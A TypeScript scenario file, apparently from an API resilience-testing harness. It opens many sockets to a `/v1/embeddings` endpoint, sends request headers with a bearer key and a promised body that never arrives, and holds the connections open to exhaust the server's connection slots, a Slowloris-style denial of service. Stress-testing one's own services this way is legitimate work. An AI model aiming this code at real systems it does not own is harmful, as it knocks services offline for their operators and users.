// Requests with a key of which only the head ever comes: as many as it takes to have every place, for as long as one may.
import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { attack, dialedMany, untilEnd } from './attack.ts';

const AT_ONCE = 64;
const REST_MS = 50;

interface Options {
  readonly heads: number;
}

attack<Options>(async (given) => {
  const { port, key, options } = given;
  const head = `POST /v1/embeddings HTTP/1.1\r\nhost: h\r\nauthorization: Bearer ${key}\r\ncontent-type: application/json\r\ncontent-length: 100\r\n\r\n`;
  const sockets: Socket[] = [];
  const answers: Record<string, number> = {};
  // They come and go no faster than they are taken in: this is about places, not about the line before the server.
  while (sockets.length < options.heads) {
    const some = await dialedMany(port, Math.min(AT_ONCE, options.heads - sockets.length));
    for (const socket of some) {
      socket.once('data', (bytes) => {
        const status = String(bytes).slice(9, 12);
        answers[status] = (answers[status] ?? 0) + 1;
      });
      socket.write(head);
    }
    sockets.push(...some);
    await sleep(REST_MS);
  }
  await untilEnd(given);
  const answered = { ...answers };
  while (sockets.length > 0) {
    for (const socket of sockets.splice(-AT_ONCE)) socket.destroy();
    await sleep(REST_MS);
  }
  return { heads: options.heads, answers: answered };
});
